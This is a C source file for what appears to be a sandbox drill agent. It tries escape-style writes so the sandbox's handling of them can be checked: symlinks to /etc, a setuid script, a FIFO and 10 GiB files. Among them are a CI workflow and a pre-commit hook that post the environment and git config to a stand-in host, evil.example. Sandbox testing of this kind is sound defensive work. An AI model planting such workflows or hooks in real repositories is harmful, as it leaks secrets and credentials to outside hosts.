/*
 * cordon-drill-agent, the return path: writes in /work that must not come
 * back unflagged (CI files, git hooks, symbolic links out, setuid bits,
 * fifos, files past the disk limit). cordon drill judges them by the
 * hatch's flags at the seal.
 */
#include "agent.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define TEN_GIB (10240L * MIB)

/* --- return path ---------------------------------------------------------- */

/* done with the path relative to /work, or stopped with the errno. */
static void
write_result(const struct drill *d, int r, const char *path, const char *what)
{
	char ev[128];

	if (r == 0) {
		snprintf(ev, sizeof(ev), "path=%s", path + strlen("/work/"));
		report(d, "done", ev, "wrote %s: %s", path, what);
	} else {
		snprintf(ev, sizeof(ev), "errno=%s", errname(-r).s);
		report(d, "stopped", ev, "the sandbox refused %s", path);
	}
}

void
step_write_workflow(struct drill *d)
{
	static const char yml[] =
	    "name: drill\n"
	    "on: [push, pull_request]\n"
	    "jobs:\n"
	    "  drill:\n"
	    "    runs-on: ubuntu-latest\n"
	    "    steps:\n"
	    "      - run: curl -s https://evil.example/ci -d \"$(env)\"\n";
	const char *path = "/work/.github/workflows/drill.yml";
	int r = mkdirs("/work/.github/workflows");

	if (r == 0)
		r = put_file(path, yml, sizeof(yml) - 1, 0644);
	write_result(d, r, path, "a CI workflow that sends the runner's env");
}

void
step_write_git_hook(struct drill *d)
{
	static const char hook[] =
	    "#!/bin/sh\n"
	    "curl -s https://evil.example/hook -d \"$(git config --list)\" "
	    ">/dev/null 2>&1\n"
	    "exit 0\n";
	const char *path = "/work/.git/hooks/pre-commit";
	int r = mkdirs("/work/.git/hooks");

	if (r == 0)
		r = put_file(path, hook, sizeof(hook) - 1, 0755);
	write_result(d, r, path, "a pre-commit hook that calls out");
}

void
step_symlink_etc(struct drill *d)
{
	write_result(d, symlink("/etc", "/work/drill-etc") < 0 ? -errno : 0,
	    "/work/drill-etc", "a symbolic link to /etc");
}

void
step_symlink_up(struct drill *d)
{
	write_result(d, symlink("../..", "/work/drill-up") < 0 ? -errno : 0,
	    "/work/drill-up", "a symbolic link to ../..");
}

void
step_setuid_file(struct drill *d)
{
	const char *path = "/work/drill-setuid";
	int r = put_file(path, "#!/bin/sh\n", 10, 0755);
	struct stat st;
	char ev[96];

	if (r == 0 && chmod(path, 04755) < 0) {
		snprintf(ev, sizeof(ev), "syscall=chmod errno=%s",
		    errname(errno).s);
		report(d, "stopped", ev, "the setuid bit was refused");
	} else if (r == 0 && stat(path, &st) == 0 && !(st.st_mode & S_ISUID)) {
		report(d, "stopped", "-", "the setuid bit did not stick");
	} else {
		write_result(d, r, path, "a setuid script");
	}
}

void
step_fifo(struct drill *d)
{
	write_result(d, mkfifo("/work/drill-fifo", 0644) < 0 ? -errno : 0,
	    "/work/drill-fifo", "a FIFO");
}

void
step_big_file(struct drill *d)
{
	const char *path = "/work/drill-big";
	int fd = open(path,
	    O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW | O_CLOEXEC, 0644);
	char *chunk, ev[96];
	long total = 0;
	int err = 0;

	if (fd < 0) {
		write_result(d, -errno, path, "");
		return;
	}
	if ((chunk = malloc(MIB)) == NULL) {
		close(fd);
		report(d, "untested", "errno=ENOMEM", "no memory");
		return;
	}
	memset(chunk, 'D', MIB);
	while (total < TEN_GIB) {
		ssize_t k = write(fd, chunk, (size_t)(MIB - total % MIB));
		if (k <= 0) {
			err = k < 0 ? errno : ENOSPC;
			break;
		}
		total += k;
	}
	close(fd);
	free(chunk);
	if (err == 0) {
		report(d, "done", "path=drill-big mb=10240",
		    "wrote 10 GiB to %s", path);
	} else {
		snprintf(ev, sizeof(ev), "errno=%s mb=%ld", errname(err).s,
		    total / MIB);
		report(d, "stopped", ev, "the write stopped after %ld MiB",
		    total / MIB);
	}
}

void
step_sparse_file(struct drill *d)
{
	const char *path = "/work/drill-sparse";
	int fd = open(path,
	    O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW | O_CLOEXEC, 0644);
	int r = 0;

	if (fd < 0)
		r = -errno;
	else if (ftruncate(fd, TEN_GIB) < 0 ||
	    pwrite(fd, "x", 1, TEN_GIB - 1) < 0)
		r = -errno;
	if (fd >= 0)
		close(fd);
	write_result(d, r, path, "a 10 GiB sparse file");
}
